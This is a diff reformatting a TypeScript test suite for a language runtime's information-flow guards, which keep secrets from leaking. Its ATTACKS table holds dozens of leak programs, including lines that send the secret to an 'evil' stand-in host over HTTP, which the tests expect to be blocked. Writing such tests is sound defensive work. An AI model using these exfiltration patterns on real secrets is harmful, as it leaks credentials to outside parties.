@@ -12,7 +12,16 @@
 import { test, after, before } from "node:test";
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { createServer, type Server } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -20,7 +29,13 @@ import { freePort, getWhenUp, RENYI, renyiIn, startProgram } from "./support.js"
 
 const SECRET = "hunter2-Zq9";
 /** Forms of the secret a leak might take: as it is, shouted, reversed, spelled out. */
-const FORMS = [SECRET, SECRET.toUpperCase(), [...SECRET].reverse().join(""), [...SECRET].join("-"), [...SECRET].join(",")];
+const FORMS = [
+  SECRET,
+  SECRET.toUpperCase(),
+  [...SECRET].reverse().join(""),
+  [...SECRET].join("-"),
+  [...SECRET].join(","),
+];
 
 const work = mkdtempSync(join(tmpdir(), "renyi-guards-"));
 after(() => rmSync(work, { recursive: true, force: true }));
@@ -64,8 +79,14 @@ after(() => {
 /** Where the secret comes from: the guarded capability and how it is read. */
 const SOURCES = {
   environment: { need: 'environment("SECRET")', read: 'environment.get("SECRET").or_else("")' },
-  file: { need: 'filesystem.read("secrets")', read: 'filesystem.read_text("secrets/key.txt") otherwise crash with "no file"' },
-  http: { need: () => `network.http("127.0.0.1:${source.port}")`, read: () => `(http.get("http://127.0.0.1:${source.port}/secret") otherwise crash with "no source").body` },
+  file: {
+    need: 'filesystem.read("secrets")',
+    read: 'filesystem.read_text("secrets/key.txt") otherwise crash with "no file"',
+  },
+  http: {
+    need: () => `network.http("127.0.0.1:${source.port}")`,
+    read: () => `(http.get("http://127.0.0.1:${source.port}/secret") otherwise crash with "no source").body`,
+  },
 } as const;
 type SourceName = keyof typeof SOURCES;
 
@@ -107,19 +128,20 @@ end
 
 /** Ways out that must be stopped: each program's only output would be the secret's. */
 const ATTACKS: Record<string, string> = {
-  "printed": "console.print(secret)",
-  "interpolated": 'console.print("the key is {secret}")',
-  "upper": "console.print(secret.upper())",
+  printed: "console.print(secret)",
+  interpolated: 'console.print("the key is {secret}")',
+  upper: "console.print(secret.upper())",
   "split and joined": 'console.print(text.join(secret.split(""), "-"))',
-  "sliced": "console.print(secret.slice(0, 4))",
-  "replaced": 'console.print(secret.replace("h", "H"))',
+  sliced: "console.print(secret.slice(0, 4))",
+  replaced: 'console.print(secret.replace("h", "H"))',
   "characters one by one": "for each c in secret.characters()\n  console.print(c)\nend",
-  "measured": 'console.print("{secret.length()}")',
+  measured: 'console.print("{secret.length()}")',
   "computed into a number": "let n be secret.length() * 7 + 1\nconsole.print(n.to_text())",
-  "a loop's counter": "var last be 0\nfor each i in 1 to secret.length()\n  set last to i\nend\nconsole.print(\"{last}\")",
+  "a loop's counter":
+    'var last be 0\nfor each i in 1 to secret.length()\n  set last to i\nend\nconsole.print("{last}")',
   "in a record": 'let h be Holder(value: secret)\nconsole.print("{h}")',
   "through a record's field": "let h be Holder(value: secret)\nconsole.print(h.value)",
-  "with": 'let h be Holder(value: "x") with value: secret\nconsole.print(h.value)',
+  with: 'let h be Holder(value: "x") with value: secret\nconsole.print(h.value)',
   "in a list": 'console.print("{[secret, "x"]}")',
   "a list's item": 'let xs be ["x", secret]\nconsole.print(xs.last().or_else("none"))',
   "in a map": 'let m be {"k": secret}\nconsole.print(m.get("k").or_else("none"))',
@@ -130,16 +152,19 @@ const ATTACKS: Record<string, string> = {
   "as JSON": "console.print(json.encode(secret))",
   "through to_json": 'console.print("{secret.to_json()}")',
   "through a lambda": 'let f be function (x: Text) returns Text\n  return x + "."\nend\nconsole.print(f(secret))',
-  "through list.map": 'let ys be list.map([secret], function (x: Text) returns Text\n  return x + "."\nend)\nconsole.print(text.join(ys, ""))',
+  "through list.map":
+    'let ys be list.map([secret], function (x: Text) returns Text\n  return x + "."\nend)\nconsole.print(text.join(ys, ""))',
   "through a function": "console.print(shout(secret))",
   "through recursion": "console.print(reversed(secret))",
   "through a query": 'let ys be from c in secret.characters() select c.upper()\nconsole.print(text.join(ys, ""))',
-  "through a query's where": 'let ys be from c in secret.characters() where c is not "z" select c\nconsole.print("{ys}")',
-  "grouped": 'let gs be from c in secret.characters() group by c into g select g.key\nconsole.print("{gs}")',
-  "sorted": 'let ys be from c in secret.characters() sort by c select c\nconsole.print("{ys}")',
-  "matched": 'match secret.split("-")\n  when [first, ...rest] then console.print(first)\n  when _ then console.print("none")\nend',
-  "appended in a var": "var acc be [\"x\"]\nset acc to acc + [secret]\nconsole.print(\"{acc}\")",
-  "in concurrent tasks": "run concurrently\n  let a be shout(secret)\n  let b be shout(\"b\")\nend\nconsole.print(a)",
+  "through a query's where":
+    'let ys be from c in secret.characters() where c is not "z" select c\nconsole.print("{ys}")',
+  grouped: 'let gs be from c in secret.characters() group by c into g select g.key\nconsole.print("{gs}")',
+  sorted: 'let ys be from c in secret.characters() sort by c select c\nconsole.print("{ys}")',
+  matched:
+    'match secret.split("-")\n  when [first, ...rest] then console.print(first)\n  when _ then console.print("none")\nend',
+  "appended in a var": 'var acc be ["x"]\nset acc to acc + [secret]\nconsole.print("{acc}")',
+  "in concurrent tasks": 'run concurrently\n  let a be shout(secret)\n  let b be shout("b")\nend\nconsole.print(a)',
   "in a crash": "crash with secret",
   "in a crash's message": 'crash with "the key was {secret}"',
   "to another host in the URL": 'let r be http.get("{evil}/?k={secret}") otherwise crash with "blocked"',
@@ -153,27 +178,48 @@ const ATTACKS: Record<string, string> = {
   "through list.append as a value": 'let append be list.append\nconsole.print("{append([], secret)}")',
   "through a library function given to list.map": 'console.print(text.join(list.map([secret], text.upper), ""))',
   "appended in place by list.append": 'var acc be [""]\nset acc to acc.append(secret)\nconsole.print("{acc}")',
-  "echoed by a failure before any call": 'let r be http.get("x{secret}") otherwise\n  when HttpError.InvalidUrl(url) then crash with url\n  when _ then crash with "other"\nend',
-  "named by a permission failure": 'filesystem.write_text("elsewhere/{secret}", "x") otherwise\n  when FileError.PermissionDenied(path) then console.print(path)\n  when _ then console.print("other")\nend',
+  "echoed by a failure before any call":
+    'let r be http.get("x{secret}") otherwise\n  when HttpError.InvalidUrl(url) then crash with url\n  when _ then crash with "other"\nend',
+  "named by a permission failure":
+    'filesystem.write_text("elsewhere/{secret}", "x") otherwise\n  when FileError.PermissionDenied(path) then console.print(path)\n  when _ then console.print("other")\nend',
   "named in the scope of a refused call": "let v be environment.get(secret)",
   "in a division's message": "let n be secret.length() * 1000\nlet z be n / 0",
   "in an index's message": "let xs be [1]\nlet x be xs[secret.length() * 1000]",
-  "quoted by a decoding failure": 'let h be Holder.from_json(secret) otherwise\n  when JsonError.Syntax(message, offset) then Holder(value: message)\n  when _ then Holder(value: "other")\nend\nconsole.print(h.value)',
+  "quoted by a decoding failure":
+    'let h be Holder.from_json(secret) otherwise\n  when JsonError.Syntax(message, offset) then Holder(value: message)\n  when _ then Holder(value: "other")\nend\nconsole.print(h.value)',
   // The attacks that decisions made (tests/implicit-flows.test.ts has thirty more): each got the whole secret out.
   "a decision about it printed": 'console.print("set: {not secret.is_empty()}")',
-  "chosen one character at a time by a query's where": 'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\nvar out be ""\nfor each ch in secret.characters()\n  let found be from a in alphabet where a is ch select a\n  set out to out + text.join(found, "")\nend\nconsole.print(out)',
-  "chosen by list.filter with a function": 'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\nvar out be ""\nfor each ch in secret.characters()\n  set out to out + text.join(alphabet.filter(function (a: Text) returns Boolean\n    return a is ch\n  end), "")\nend\nconsole.print(out)',
-  "a loop's turns counted": "var count be 0\nfor each i in 1 to secret.length()\n  set count to count + 1\nend\nconsole.print(\"{count}\")",
-  "counted by a while loop to its length": "var n be 0\nwhile n < secret.length()\n  set n to n + 1\nend\nconsole.print(\"{n}\")",
-  "ordered by a query's sort": 'let alphabet be "abcdefghijklmnopqrstuvwxyz0123456789"\nvar out be ""\nfor each ch in secret.characters()\n  let s be alphabet.index_of(ch).or_else(0)\n  let best be from c in alphabet.characters() sort by math.abs(alphabet.index_of(c).or_else(0) - s) select c\n  set out to out + best.first().or_else("?")\nend\nconsole.print(out)',
+  "chosen one character at a time by a query's where":
+    'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\nvar out be ""\nfor each ch in secret.characters()\n  let found be from a in alphabet where a is ch select a\n  set out to out + text.join(found, "")\nend\nconsole.print(out)',
+  "chosen by list.filter with a function":
+    'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\nvar out be ""\nfor each ch in secret.characters()\n  set out to out + text.join(alphabet.filter(function (a: Text) returns Boolean\n    return a is ch\n  end), "")\nend\nconsole.print(out)',
+  "a loop's turns counted":
+    'var count be 0\nfor each i in 1 to secret.length()\n  set count to count + 1\nend\nconsole.print("{count}")',
+  "counted by a while loop to its length":
+    'var n be 0\nwhile n < secret.length()\n  set n to n + 1\nend\nconsole.print("{n}")',
+  "ordered by a query's sort":
+    'let alphabet be "abcdefghijklmnopqrstuvwxyz0123456789"\nvar out be ""\nfor each ch in secret.characters()\n  let s be alphabet.index_of(ch).or_else(0)\n  let best be from c in alphabet.characters() sort by math.abs(alphabet.index_of(c).or_else(0) - s) select c\n  set out to out + best.first().or_else("?")\nend\nconsole.print(out)',
 };
 
 /** Flows to the granted sink, and what the sink answered: each must work. */
 const ALLOWED: Record<string, { body: string; heard?: (h: Heard) => boolean; stdout?: RegExp }> = {
-  "sent to the sink in the body": { body: 'let r be http.post(sink, secret) otherwise crash with "refused"\nconsole.print("sent {r.status}")', heard: (h) => h.body === SECRET, stdout: /^sent 200\n$/ },
-  "sent to the sink in a header": { body: 'let r be http.get(sink, {"x-key": secret.upper()}) otherwise crash with "refused"\nconsole.print("sent")', heard: (h) => h.headers.includes(SECRET.toUpperCase()) },
-  "sent to the sink in the URL, from a record": { body: 'let h be Holder(value: secret)\nlet r be http.get("{sink}/?k={h.value}") otherwise crash with "refused"\nconsole.print("sent")', heard: (h) => h.url.includes(SECRET) },
-  "library functions as values, on data with no origin": { body: 'let p be console.print\np("{list.map(["a"], text.upper)}")', stdout: /^\["A"\]\n$/ },
+  "sent to the sink in the body": {
+    body: 'let r be http.post(sink, secret) otherwise crash with "refused"\nconsole.print("sent {r.status}")',
+    heard: (h) => h.body === SECRET,
+    stdout: /^sent 200\n$/,
+  },
+  "sent to the sink in a header": {
+    body: 'let r be http.get(sink, {"x-key": secret.upper()}) otherwise crash with "refused"\nconsole.print("sent")',
+    heard: (h) => h.headers.includes(SECRET.toUpperCase()),
+  },
+  "sent to the sink in the URL, from a record": {
+    body: 'let h be Holder(value: secret)\nlet r be http.get("{sink}/?k={h.value}") otherwise crash with "refused"\nconsole.print("sent")',
+    heard: (h) => h.url.includes(SECRET),
+  },
+  "library functions as values, on data with no origin": {
+    body: 'let p be console.print\np("{list.map(["a"], text.upper)}")',
+    stdout: /^\["A"\]\n$/,
+  },
   "unrelated work printed": { body: 'let n be 6 * 7\nconsole.print("{n} {[1, 2].length()}")', stdout: /^42 2\n$/ },
 };
 
@@ -197,7 +243,18 @@ test("every way out of the program is stopped, with nothing leaving: from the en
   mkdirSync(join(work, "out"), { recursive: true });
   const cases: [SourceName, string, string][] = [];
   for (const [name, body] of Object.entries(ATTACKS)) cases.push(["environment", name, body]);
-  for (const name of ["printed", "interpolated", "measured", "in a record", "through a query", "to another host in the body", "to another host in a header", "written to a file", "passed to a process", "in a crash's message"]) {
+  for (const name of [
+    "printed",
+    "interpolated",
+    "measured",
+    "in a record",
+    "through a query",
+    "to another host in the body",
+    "to another host in a header",
+    "written to a file",
+    "passed to a process",
+    "in a crash's message",
+  ]) {
     cases.push(["file", name, ATTACKS[name]!], ["http", name, ATTACKS[name]!]);
   }
   const evilBefore = evil.heard.length;
@@ -227,7 +284,12 @@ test("without the guard, the same programs do get the secret out: each attack ab
     const ran = await startProgram(work, PROGRAM("environment", body, socket, false), { env: { SECRET } }).done;
     // Each attack's only output is what it derived from the secret: printed at all, it got out.
     // (The secret has 11 characters: a crash that shows 11,000 shows its length.)
-    const got = (ran.status === 0 && ran.stdout !== "") || leaked(ran.stderr) || /\b11000\b/.test(ran.stderr) || evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) || outFiles().length > 0;
+    const got =
+      (ran.status === 0 && ran.stdout !== "") ||
+      leaked(ran.stderr) ||
+      /\b11000\b/.test(ran.stderr) ||
+      evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) ||
+      outFiles().length > 0;
     assert.ok(got, `${name}: nothing left without the guard either: ${ran.stdout} ${ran.stderr}`);
     leaks++;
   });
@@ -244,7 +306,11 @@ test("the granted sink still gets the secret, and what the sink answered may be 
     const ran = await startProgram(work, PROGRAM("environment", c.body, socket), { env: { SECRET } }).done;
     assert.equal(ran.status, 0, `${name}: ${ran.stderr}`);
     if (c.stdout !== undefined) assert.match(ran.stdout, c.stdout, name);
-    if (c.heard !== undefined) assert.ok(sink.heard.slice(before).some(c.heard), `${name}: the sink did not get it: ${JSON.stringify(sink.heard.slice(before))}`);
+    if (c.heard !== undefined)
+      assert.ok(
+        sink.heard.slice(before).some(c.heard),
+        `${name}: the sink did not get it: ${JSON.stringify(sink.heard.slice(before))}`,
+      );
     checked++;
   });
   console.log(`guards: ${checked} allowed flows`);
@@ -285,15 +351,20 @@ test("a fallible call refused by a guard fails, and otherwise handles the failur
 end).status
 ${print}`;
   // The handler ran, and the program goes on past it; the value it gave is a decision on what the call carried.
-  const ran = await startProgram(work, PROGRAM("environment", handled('console.print("handled")'), socket), { env: { SECRET } }).done;
+  const ran = await startProgram(work, PROGRAM("environment", handled('console.print("handled")'), socket), {
+    env: { SECRET },
+  }).done;
   assert.equal(ran.status, 0, ran.stderr);
   assert.equal(ran.stdout, "handled\n");
-  const shown = await startProgram(work, PROGRAM("environment", handled('console.print("handled {status}")'), await freePort()), { env: { SECRET } }).done;
+  const shown = await startProgram(
+    work,
+    PROGRAM("environment", handled('console.print("handled {status}")'), await freePort()),
+    { env: { SECRET } },
+  ).done;
   assert.equal(shown.stdout, "");
   assert.match(shown.stderr, /E-RT-GUARD/);
   assert.equal(evil.heard.length, before);
 });
-
 
 test("a replay enforces the same guards: a program edited to print what it sent is refused offline", async () => {
   const dir = join(work, "replayed");
@@ -303,11 +374,17 @@ test("a replay enforces the same guards: a program edited to print what it sent 
   needs console, network.http("127.0.0.1:${sink.port}"), environment("SECRET") only to network.http("127.0.0.1:${sink.port}")
   let secret be environment.get("SECRET").or_else("")
 `;
-  writeFileSync(join(dir, "send.ry"), `${head}  let r be http.post("http://127.0.0.1:${sink.port}/", secret) otherwise crash with "refused"\n  console.print("sent {r.status}")\nend\n`);
+  writeFileSync(
+    join(dir, "send.ry"),
+    `${head}  let r be http.post("http://127.0.0.1:${sink.port}/", secret) otherwise crash with "refused"\n  console.print("sent {r.status}")\nend\n`,
+  );
   const recorded = await runIn(dir, ["record", "--to", "send.recording.json", "send.ry"], { SECRET });
   assert.equal(recorded.status, 0, recorded.stderr);
   const recording = JSON.parse(readFileSync(join(dir, "send.recording.json"), "utf8")) as { grant: string[] };
-  assert.ok(recording.grant.some((item) => item === `environment("SECRET") only to network.http("127.0.0.1:${sink.port}")`), JSON.stringify(recording.grant));
+  assert.ok(
+    recording.grant.some((item) => item === `environment("SECRET") only to network.http("127.0.0.1:${sink.port}")`),
+    JSON.stringify(recording.grant),
+  );
   // The same program replays; the edited one prints the key, and is stopped before anything is printed.
   const again = await runIn(dir, ["run", "--replay", "send.recording.json", "send.ry"], {});
   assert.equal(again.status, 0, again.stderr);
@@ -315,14 +392,19 @@ test("a replay enforces the same guards: a program edited to print what it sent 
   const edited = await runIn(dir, ["run", "--replay", "send.recording.json", "send.ry"], {});
   assert.equal(edited.status, 2, edited.stderr);
   assert.equal(edited.stdout, "");
-  assert.match(edited.stderr, /error\[E-RT-GUARD\]: console\.print was refused: it carries data from environment\("SECRET"\)/);
+  assert.match(
+    edited.stderr,
+    /error\[E-RT-GUARD\]: console\.print was refused: it carries data from environment\("SECRET"\)/,
+  );
   assert.ok(!leaked(edited.stderr));
 });
 
 test("a test's own guard holds in renyi test", async () => {
   const dir = join(work, "tested");
   mkdirSync(dir, { recursive: true });
-  writeFileSync(join(dir, "keys_test.ry"), `test "the key stays in" needs console, environment("SECRET") only to network.http("127.0.0.1")
+  writeFileSync(
+    join(dir, "keys_test.ry"),
+    `test "the key stays in" needs console, environment("SECRET") only to network.http("127.0.0.1")
   console.print(environment.get("SECRET").or_else("none"))
 end
 
@@ -333,7 +415,8 @@ end
 test "work of its own is printed" needs console, environment("SECRET") only to network.http("127.0.0.1")
   console.print("six times seven is {6 * 7}")
 end
-`);
+`,
+  );
   const ran = await runIn(dir, ["test", "keys_test.ry"], { SECRET });
   assert.equal(ran.status, 1, ran.stdout + ran.stderr);
   assert.match(ran.stdout, /crashed the key stays in[\s\S]*E-RT-GUARD/);
@@ -343,7 +426,11 @@ end
 });
 
 /** `renyi ARGS` in `dir`, with the environment given added. */
-function runIn(dir: string, args: readonly string[], env: Record<string, string>): Promise<{ status: number | null; stdout: string; stderr: string }> {
+function runIn(
+  dir: string,
+  args: readonly string[],
+  env: Record<string, string>,
+): Promise<{ status: number | null; stdout: string; stderr: string }> {
   return renyiIn(dir, args, env, join(work, "cache"));
 }
 
@@ -367,9 +454,15 @@ end
 
 test("the execution record names no scope made of guarded data", async () => {
   const socket = await freePort();
-  const ran = await startProgram(work, PROGRAM("environment", 'let r be http.get("{sink}/{secret}") otherwise crash with "refused"', socket), { env: { SECRET }, before: ["--json"] }).done;
+  const ran = await startProgram(
+    work,
+    PROGRAM("environment", 'let r be http.get("{sink}/{secret}") otherwise crash with "refused"', socket),
+    { env: { SECRET }, before: ["--json"] },
+  ).done;
   assert.equal(ran.status, 0, ran.stderr);
-  const record = JSON.parse(ran.stdout.trim().split("\n").at(-1)!) as { hostCalls: { operation: string; target?: string }[] };
+  const record = JSON.parse(ran.stdout.trim().split("\n").at(-1)!) as {
+    hostCalls: { operation: string; target?: string }[];
+  };
   const get = record.hostCalls.find((c) => c.operation === "std.http.get")!;
   assert.equal(get.target, undefined);
   assert.ok(!leaked(ran.stdout), ran.stdout);
@@ -386,14 +479,33 @@ test("paths are compared where they lead: an absolute path or a link into a guar
   const program = (body: string) => `public function main()
   purpose: Reach the secret by another name.
   needs console, filesystem.read, filesystem.write, filesystem.read("secrets") only to filesystem.write("out")
-${body.split("\n").map((l) => `  ${l}`).join("\n")}
+${body
+  .split("\n")
+  .map((l) => `  ${l}`)
+  .join("\n")}
 end
 `;
   const cases: [string, string, boolean][] = [
-    ["an absolute path", `let s be filesystem.read_text("${join(dir, "secrets", "key.txt")}") otherwise crash with "no file"\nconsole.print(s)`, false],
-    ["a link to the file", 'let s be filesystem.read_text("keylink.txt") otherwise crash with "no file"\nconsole.print(s)', false],
-    ["a link out of the sink", 'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\nfilesystem.write_text("out/esc/leak.txt", s) otherwise crash with "blocked"', false],
-    ["the sink itself", 'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\nfilesystem.write_text("out/kept.txt", s) otherwise crash with "refused"\nconsole.print("kept")', true],
+    [
+      "an absolute path",
+      `let s be filesystem.read_text("${join(dir, "secrets", "key.txt")}") otherwise crash with "no file"\nconsole.print(s)`,
+      false,
+    ],
+    [
+      "a link to the file",
+      'let s be filesystem.read_text("keylink.txt") otherwise crash with "no file"\nconsole.print(s)',
+      false,
+    ],
+    [
+      "a link out of the sink",
+      'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\nfilesystem.write_text("out/esc/leak.txt", s) otherwise crash with "blocked"',
+      false,
+    ],
+    [
+      "the sink itself",
+      'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\nfilesystem.write_text("out/kept.txt", s) otherwise crash with "refused"\nconsole.print("kept")',
+      true,
+    ],
   ];
   for (const [name, body, allowed] of cases) {
     writeFileSync(join(dir, "p.ry"), program(body));
@@ -414,13 +526,21 @@ end
 test("a bundle built with guards passes the validator and is held to them; a run with guards refuses code compiled without origins", async () => {
   const dir = join(work, "bundled");
   mkdirSync(dir, { recursive: true });
-  writeFileSync(join(dir, "leak.ry"), `public function main()
+  writeFileSync(
+    join(dir, "leak.ry"),
+    `public function main()
   purpose: Print a secret.
   needs console, environment("SECRET") only to network.http("127.0.0.1")
   console.print(environment.get("SECRET").or_else("none"))
 end
-`);
-  const build = await new Promise<number | null>((resolve) => spawn(process.execPath, [join(RENYI, "..", "renyic.js"), "build", "leak.ry", "--out", "out"], { cwd: dir, stdio: "ignore" }).on("close", resolve));
+`,
+  );
+  const build = await new Promise<number | null>((resolve) =>
+    spawn(process.execPath, [join(RENYI, "..", "renyic.js"), "build", "leak.ry", "--out", "out"], {
+      cwd: dir,
+      stdio: "ignore",
+    }).on("close", resolve),
+  );
   assert.equal(build, 0);
   const ran = await runIn(dir, ["run", "out/leak.mjs"], { SECRET });
   assert.equal(ran.status, 2, ran.stderr);
@@ -428,7 +548,14 @@ end
   assert.ok(!leaked(ran.stdout + ran.stderr));
   // The runtime itself: guards declared, but no origin operators compiled in.
   const { runMain } = await import("../rtlib/run-main.js");
-  const refused = await runMain({ main: () => undefined, mainParameters: [], mainGrant: [{ path: ["environment"], scope: "SECRET", guard: { sinks: [{ path: ["console"] }] } }] }, { argv: [] });
+  const refused = await runMain(
+    {
+      main: () => undefined,
+      mainParameters: [],
+      mainGrant: [{ path: ["environment"], scope: "SECRET", guard: { sinks: [{ path: ["console"] }] } }],
+    },
+    { argv: [] },
+  );
   assert.equal(refused.outcome, "refused");
   assert.match((refused as { message: string }).message, /compiled without the origins they need/);
 });
